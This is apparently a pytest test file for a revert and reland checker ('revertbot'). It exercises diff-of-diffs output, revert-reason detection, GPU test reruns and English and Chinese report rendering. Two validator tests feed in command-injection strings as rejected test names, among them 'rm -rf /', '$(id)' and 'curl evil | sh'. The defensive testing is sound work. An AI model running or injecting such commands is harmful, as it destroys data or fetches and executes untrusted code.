"""Relands: the diff of diffs against the reverted original, why it was reverted, detection by
diff, and the action, on real git repositories."""

from __future__ import annotations

from revertbot.pipeline.check import check_revert
from revertbot.report_data import GpuSummary, GpuTestFlip, RelandTest
from revertbot.verdict.reland import failure_gone, flipped_tests, reland_test_outcomes, valid_test_id
from tests.gitrepo import GitRepo

BASE = (
    "def capture(sizes):\n"
    "    buffers = {}\n"
    "    for size in sizes:\n"
    "        buffers[size] = alloc(size)\n"
    "    return buffers\n"
)
ORIGINAL = (
    "def capture(sizes):\n"
    "    shared = alloc(max(sizes))\n"
    "    buffers = {}\n"
    "    for size in sizes:\n"
    "        buffers[size] = shared[:size]\n"
    "    return buffers\n"
)
FIXED = (
    "def capture(sizes, warmup):\n"
    "    shared = alloc(len(warmup))\n"
    "    buffers = {}\n"
    "    for size in sizes:\n"
    "        buffers[size] = shared[:size]\n"
    "    return buffers\n"
)


def story(repo: GitRepo, reland_message: str, reland_files: dict[str, str | bytes | None]) -> tuple[str, str, str]:
    repo.commit("init", {"engine/capture.py": BASE, "README.md": "engine\n"})
    original = repo.commit("Share output buffers across capture sizes (#27659)", {"engine/capture.py": ORIGINAL})
    revert = repo.revert(original, message=(
        'Revert "Share output buffers across capture sizes (#27659)" (#27758)\n\n'
        f"This reverts commit {original}.\n\nCUDA graph capture fails for bs=160 after this.\n"))  # fmt: skip
    repo.checkout("-b", "reland")  # the reland is a pull request's branch; main is the base
    reland = repo.commit(reland_message, reland_files)
    repo.checkout("main")
    return original, revert, reland


def test_reland_with_a_fix_shows_the_diff_of_diffs_exactly(repo: GitRepo) -> None:
    message = 'Reland "Share output buffers across capture sizes (#27659)"\n\nSized from the warmup output this time.\n'
    files: dict[str, str | bytes | None] = {"engine/capture.py": FIXED, "docs/capture.md": "sized from warmup\n"}
    original, revert, reland = story(repo, message, files)
    report = check_revert(repo.path, reland, base_ref="main")
    assert report.kind == "reland"
    info = report.reland
    assert info is not None
    assert info.original.sha == original and info.revert is not None and info.revert.sha == revert
    assert info.reason is not None and info.reason.category == "gpu-regression"
    assert report.reason == info.reason
    assert "CUDA graph capture fails" in info.revert_summary and "This reverts" not in info.revert_summary
    assert [(d.path, d.status) for d in info.files] == [("docs/capture.md", "only-reland"),
                                                         ("engine/capture.py", "changed")]  # fmt: skip
    assert info.files[0].diff == "@@\n+@@\n++sized from warmup"
    assert info.files[1].diff == (
        "@@\n"
        " @@\n"
        "- def capture(sizes):\n"  # the original kept the signature ...
        "-+    shared = alloc(max(sizes))\n"
        "+-def capture(sizes):\n"  # ... the reland changes it and sizes the buffer from the warmup output
        "++def capture(sizes, warmup):\n"
        "++    shared = alloc(len(warmup))\n"
        "      buffers = {}"
    )
    assert not info.identical and info.skipped == ()
    # Not a revert: no purity factor, and the action is about the original failure.
    names = [f.name for f in report.risk.factors]
    assert "purity" not in names and "reland" in names
    # No GPU results: the original failure is not shown gone either way.
    assert report.risk.action == "reland_unproven"


def test_identical_reland_fixes_nothing(repo: GitRepo) -> None:
    _original, _revert, reland = story(repo, 'Reland "Share output buffers across capture sizes (#27659)"',
                                       {"engine/capture.py": ORIGINAL})
    info = check_revert(repo.path, reland, base_ref="main").reland
    assert info is not None and info.identical and info.files == ()
    report = check_revert(repo.path, reland, base_ref="main")
    factor = next(f for f in report.risk.factors if f.name == "reland")
    assert (factor.code, factor.level) == ("identical", "medium")
    assert report.risk.action == "review"


def test_reland_found_by_its_diff_when_the_title_says_nothing(repo: GitRepo) -> None:
    original, revert, reland = story(repo, "Capture: one shared output buffer, sized from warmup",
                                     {"engine/capture.py": FIXED})
    report = check_revert(repo.path, reland, base_ref="main")
    assert report.kind == "reland" and report.linked_by == ("patch",)
    assert [o.sha for o in report.originals] == [original]
    assert report.reland is not None and report.reland.linked_by == "patch"
    assert report.reland.revert is not None and report.reland.revert.sha == revert
    assert [d.path for d in report.reland.files] == ["engine/capture.py"]


def test_unrelated_change_is_not_a_reland(repo: GitRepo) -> None:
    _original, _revert, change = story(repo, "Docs: typo", {"README.md": "the engine\n"})
    import pytest

    from revertbot.errors import NotFoundError

    with pytest.raises(NotFoundError):
        check_revert(repo.path, change, base_ref="main")


def test_revert_gets_its_reason_category(repo: GitRepo) -> None:
    _original, revert, _reland = story(repo, "unrelated", {"README.md": "x\n"})
    report = check_revert(repo.path, revert, base_ref="main")
    assert report.reason is not None and report.reason.category == "gpu-regression"
    assert report.reason.evidence == "CUDA graph capture fails" and report.reland is None


# --------------------------------------------------------------------------- GPU: flipped tests


def test_flipped_tests_and_whether_the_failure_is_gone() -> None:
    recorded = {"fixed": [{"name": "tests/test_capture.py::test_capture[160]", "before": "failed", "after": "passed"}],
                "broken": [{"name": "tests/test_capture.py::test_memory", "before": "passed", "after": "failed"}]}
    flipped = flipped_tests(recorded)
    assert flipped == [("tests/test_capture.py::test_capture[160]", "fixed"),
                       ("tests/test_capture.py::test_memory", "broken")]  # fmt: skip
    gone = GpuSummary(("graph-capture",), "H200", passed_tests=("tests/test_capture.py::test_capture[160]",))
    assert failure_gone(reland_test_outcomes(flipped, gone), gone) == "yes"
    # Passing without a GPU is no GPU evidence.
    cpu = GpuSummary(("graph-capture",), "no GPU", passed_tests=gone.passed_tests, cpu_only=("graph-capture",))
    assert failure_gone(reland_test_outcomes(flipped, cpu), cpu) == "cpu-only"
    still = GpuSummary(("graph-capture",), "H200",
                       broken=(GpuTestFlip("tests/test_capture.py::test_capture[160]", "passed", "failed"),))
    tests = reland_test_outcomes(flipped, still)
    assert tests[0] == RelandTest("tests/test_capture.py::test_capture[160]", "fixed", "fails")
    assert failure_gone(tests) == "no"
    # Not run, or no GPU results at all: never "gone".
    assert failure_gone(reland_test_outcomes(flipped, GpuSummary(("graph-capture",), "H200"))) == "unknown"
    assert failure_gone(reland_test_outcomes(flipped, None)) == "unknown"
    assert failure_gone(()) == "unknown"


def test_stored_test_names_are_validated_as_node_ids() -> None:
    assert valid_test_id("tests/test_capture.py::test_capture[160]", ["tests/"])
    assert valid_test_id("tests/test_capture.py::TestX::test_y[bs=8-fp16]")
    for bad in ("tests/x.py::t; rm -rf /", "-k tests/x.py::t", "../x.py::t", "/etc/x.py::t", "tests/x.py",
                "tests/x.py::t$(id)", "tests/x.py::t`id`", "tests/x.py::t\n", "other/x.py::t"):
        assert not valid_test_id(bad, ["tests"]), bad


def test_reland_section_in_both_languages_and_json(repo: GitRepo) -> None:
    from revertbot.report import render_markdown, report_to_json

    message = 'Reland "Share output buffers across capture sizes (#27659)"\n\nSized from the warmup output.\n'
    _original, revert, reland = story(repo, message, {"engine/capture.py": FIXED})
    report = check_revert(repo.path, reland, base_ref="main")
    en = render_markdown(report, "en")
    assert "### Reland: what changed since the reverted original\n" in en
    assert "A reland of `" in en and "pure" not in en.split("### Motivation")[0]
    assert "- Why it was reverted: **GPU regression** — “CUDA graph capture fails” in the commit message" in en
    assert "- Reland message: Sized from the warmup output." in en
    zh = render_markdown(report, "zh")
    assert "### 重新合入：与被回退的原始提交相比的改动\n" in zh
    assert "- 回退原因：**GPU 回归问题** — 提交说明中的“CUDA graph capture fails”" in zh
    assert f"被 `{revert[:10]}` Revert" in zh
    assert "历史记录中没有该回退的 GPU 结果" in zh
    assert "请在证实原始故障消失后再合并" in zh
    data = report_to_json(report)
    assert data["reland"]["revert"]["sha"] == revert and data["reason"]["category"] == "gpu-regression"
    assert data["reland"]["files"][0]["path"] == "engine/capture.py" and data["risk"]["action"] == "reland_unproven"


def test_flipped_tests_are_planned_only_as_node_ids_of_a_configured_suite() -> None:
    from gpu_jobs.plan import build_matrix
    from revertbot.config import load_config
    from revertbot.verdict.reland import rerun_tests, suite_test_roots

    cfg = load_config("gpu:\n  suites:\n    graph-capture:\n      paths: ['engine/**']\n"
                      "      command: ['python', '-m', 'pytest', '-q', 'tests/gpu']\n")  # fmt: skip
    assert suite_test_roots(cfg.gpu.suites["graph-capture"].command) == ["tests/gpu"]
    flipped = [("tests/gpu/test_capture.py::test_capture[160]", "fixed"),
               ("graph-capture: tests/gpu/test_capture.py::test_memory", "broken"),  # several suites' naming
               ("tests/other/test_x.py::test_y", "fixed"),  # not under the suite's tests
               ("tests/gpu/test_capture.py::t; curl evil | sh", "fixed")]  # fmt: skip
    commands = {name: s.command for name, s in cfg.gpu.suites.items()}
    rerun = rerun_tests(flipped, commands)
    assert rerun == {"graph-capture": ["tests/gpu/test_capture.py::test_capture[160]",
                                       "tests/gpu/test_capture.py::test_memory"]}  # fmt: skip
    # A docs-only reland selects no suite by its paths; its flipped tests still bring theirs.
    assert build_matrix(cfg, ["docs/x.md"])["include"] == []
    [entry] = build_matrix(cfg, ["docs/x.md"], rerun=rerun)["include"]
    assert entry["suite"] == "graph-capture" and entry["rerun_tests"] == rerun["graph-capture"]
    assert build_matrix(cfg, ["docs/x.md"], rerun={"no-such-suite": ["tests/gpu/a.py::t"]})["include"] == []
    [plain] = build_matrix(cfg, ["engine/a.py"])["include"]
    assert "rerun_tests" not in plain


def test_similarity_needs_enough_lines() -> None:
    from revertbot.verdict.reland import similarity

    one = "diff --git a/a.py b/a.py\n--- a/a.py\n+++ b/a.py\n@@ -1 +1,2 @@\n x\n+import os\n"
    assert similarity(one, one) == 0.0  # one shared line proves nothing
    three = ("diff --git a/a.py b/a.py\n--- a/a.py\n+++ b/a.py\n@@ -1,2 +1,3 @@\n-a = 1\n+a = 2\n+b = 3\n c\n")
    half = "diff --git a/a.py b/a.py\n--- a/a.py\n+++ b/a.py\n@@ -1,2 +1,2 @@\n-a = 1\n+a = 5\n c\n"
    assert similarity(three, three) == 1.0
    assert round(similarity(three, half), 2) == 0.33
